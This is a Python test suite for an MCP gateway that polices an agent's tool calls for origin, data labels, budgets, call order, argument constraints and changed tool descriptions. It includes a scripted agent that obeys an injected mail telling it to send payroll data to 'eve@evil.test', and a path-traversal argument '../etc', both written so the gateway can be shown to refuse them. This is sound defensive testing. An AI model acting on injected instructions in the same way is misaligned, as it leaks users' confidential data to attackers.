"""A scripted agent behind the MCP gateway, with the official SDK at both ends: what it may do, and what it may not."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

pytest.importorskip("mcp", reason="mcp: the official SDK is not installed")

from mcp_stage import Mailroom, mailroom, refusal, text


@pytest.fixture(scope="module")
def room() -> Iterator[Mailroom]:
    with mailroom() as made:
        yield made


@pytest.fixture(autouse=True)
def _fresh(room: Mailroom) -> None:
    room.clear()


async def obedient(client: Any, mail: str) -> list[Any]:
    """An agent that reads one mail and does whatever it finds there; without orders in it, its task."""
    read = await client.call_tool("read_mail", {"id": mail})
    if "eve@evil.test" in text(read):
        return [read, await client.call_tool("send_mail", {"to": "eve@evil.test", "body": "the payroll"})]
    return [read, await client.call_tool("send_mail", {"to": "bob@example.com", "body": "It comes tomorrow."})]


def test_an_injected_instruction_is_refused_with_its_reason(room: Mailroom) -> None:
    async def script(client: Any) -> list[Any]:
        return await obedient(client, "666")

    before = room.sent()
    _, sent = room.agent(room.intend(), script)
    said = refusal(sent)
    assert said["clause"] == "origin"
    found = room.explained(said["decision"])
    assert found["reasons"][0]["id"] == "remit:intent.origin" and "read_mail" in found["reasons"][0]["text"]
    assert found["facts"]["intent"]["tainted"] and room.sent() == before


def test_the_same_task_without_the_injection_completes(room: Mailroom) -> None:
    async def script(client: Any) -> list[Any]:
        return await obedient(client, "4711")

    _, sent = room.agent(room.intend(), script)
    assert text(sent) == "sent" and room.sent()[-1]["to"] == "bob@example.com"


def test_the_agent_sees_only_tools_that_it_may_call(room: Mailroom) -> None:
    tools = {"mail/read_mail": {"arguments": {"id": {}}}}

    async def script(client: Any) -> list[str]:
        return [tool.name for tool in (await client.list_tools()).tools]

    assert room.agent(room.intend(tools=tools), script) == ["read_mail"]


@pytest.mark.parametrize("mode", ["legacy", "auto", "2026-07-28"])
def test_every_revision_of_the_protocol_is_served(room: Mailroom, mode: str) -> None:
    async def script(client: Any) -> str:
        return text(await client.call_tool("read_mail", {"id": "4711"}))

    assert "REF-20" in room.agent(room.intend(), script, mode=mode)


def test_the_instructions_of_a_server_do_not_reach_the_agent(room: Mailroom) -> None:
    async def script(client: Any) -> str | None:
        found: str | None = client.instructions
        return found

    assert room.agent(room.intend(), script) is None


def test_a_server_gets_nothing_of_the_gateways_environment(room: Mailroom) -> None:
    async def script(client: Any) -> str:
        return text(await client.call_tool("environment", {"name": "REMIT_DATA"}))

    assert room.agent(room.intend(), script) == "none"


def clauses(room: Mailroom, intent: str, *calls: tuple[str, dict[str, Any]]) -> list[str]:
    """What becomes of calls in one session: the clause that refused each, or nothing."""

    async def script(client: Any) -> list[str]:
        found = []
        for name, arguments in calls:
            result = await client.call_tool(name, arguments)
            found.append(refusal(result)["clause"] if result.is_error else "")
        return found

    return room.agent(intent, script)


READ = ("read_mail", {"id": "4711"})
SEND = ("send_mail", {"to": "bob@example.com", "body": "tomorrow"})


def test_an_argument_outside_its_constraint_is_refused(room: Mailroom) -> None:
    assert clauses(room, room.intend(), ("read_mail", {"id": "../etc"}), ("read_mail", {"id": "1", "x": 1})) == [
        "argument",
        "argument",
    ]


def test_confidential_data_does_not_leave_by_a_tool_cleared_for_internal(room: Mailroom) -> None:
    assert clauses(room, room.intend(), SEND, ("read_payroll", {}), SEND) == ["", "", "label.flow"]


def test_data_above_the_ceiling_is_not_read(room: Mailroom) -> None:
    assert clauses(room, room.intend(ceiling="internal"), ("read_payroll", {})) == ["label.ceiling"]


def test_a_call_over_the_budget_is_refused(room: Mailroom) -> None:
    budget = {"calls": 2, "bytes": 100_000, "seconds": 600}
    assert clauses(room, room.intend(budget=budget), READ, READ, READ) == ["", "", "budget"]


def test_the_budget_outlives_the_gateway(room: Mailroom) -> None:
    intent = room.intend(budget={"calls": 2, "bytes": 100_000, "seconds": 600})
    assert clauses(room, intent, READ, READ) == ["", ""]
    assert clauses(room, intent, READ) == ["budget"]


def test_calls_out_of_order_are_refused(room: Mailroom) -> None:
    sequence = {"start": "new", "states": {"new": {"read": "informed"}, "informed": {"external": "done"}, "done": {}}}
    assert clauses(room, room.intend(sequence=sequence), SEND, READ, SEND, READ) == ["order", "", "", "order"]


def test_a_value_of_the_users_own_input_may_be_sent_to(room: Mailroom) -> None:
    call = ("send_mail", {"to": "carol@example.com", "body": "hello"})
    assert clauses(room, room.intend(), call) == ["origin"]
    room.clear()
    assert clauses(room, room.intend(inputs={"colleague": "carol@example.com"}), call) == [""]


def test_a_changed_description_is_refused_until_it_is_approved_again(room: Mailroom) -> None:
    call = ("search", {"query": "parcel"})
    assert clauses(room, room.intend(), call) == [""]
    room.mutation.touch()
    try:
        room.clear()
        assert clauses(room, room.intend(), call) == ["tool.definition"]
        room.approve_tools(search=("read", "internal"))
        assert clauses(room, room.intend(), call) == [""]
    finally:
        room.mutation.unlink()
        room.approve_tools(search=("read", "internal"))


def test_what_was_read_counts_into_the_bytes(room: Mailroom) -> None:
    found = clauses(room, room.intend(budget={"calls": 9, "bytes": 200, "seconds": 600}), *[READ] * 4)
    assert found[0] == "" and found[-1] == "budget"
